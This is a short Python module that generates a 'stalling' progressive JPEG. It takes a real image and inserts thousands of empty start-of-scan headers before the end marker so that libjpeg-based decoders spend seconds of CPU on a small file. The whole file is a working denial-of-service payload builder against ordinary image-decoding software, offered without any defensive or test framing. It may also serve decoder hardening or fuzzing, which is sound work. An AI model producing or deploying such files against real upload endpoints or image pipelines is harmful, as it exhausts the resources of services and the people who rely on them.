"""A progressive JPEG that stalls decoders: a real progressive JPEG, then thousands of empty scans (a
10-byte start-of-scan header each, no data) before its end marker. libjpeg makes a pass over every block
of the image for each scan, so 10,000 scans of a 4096x4096 image cost ~10 s of CPU from ~165 KB."""

from __future__ import annotations

import io

from PIL import Image

SOS, EOI = 0xDA, 0xD9


def stalling_jpeg(scans: int = 10_000, side: int = 4096, shade: int = 128) -> bytes:
    """The JPEG with `scans` empty scans added (each a copy of its last scan's header)."""
    buffer = io.BytesIO()
    Image.new("L", (side, side), shade).save(buffer, "JPEG", progressive=True, quality=90)
    data = buffer.getvalue()
    start, end = _last_scan_header(data)
    eoi = data.rindex(bytes([0xFF, EOI]))
    return data[:eoi] + data[start:end] * scans + data[eoi:]


def _last_scan_header(data: bytes) -> tuple[int, int]:
    """Where the last start-of-scan segment (marker, length, header; not its entropy-coded data) lies."""
    position, last = 2, None
    while data[position + 1] != EOI:
        marker = data[position + 1]
        end = position + 2 + int.from_bytes(data[position + 2 : position + 4], "big")
        if marker != SOS:
            position = end
            continue
        last = (position, end)
        position = _next_marker(data, end)
    assert last is not None, "not a progressive JPEG"
    return last


def _next_marker(data: bytes, position: int) -> int:
    """The next marker after entropy-coded data (0xFF00 is a stuffed byte, 0xFFD0-D7 a restart marker)."""
    while True:
        position = data.index(b"\xff", position)
        following = data[position + 1]
        if following == 0 or 0xD0 <= following <= 0xD7:
            position += 2
            continue
        return position
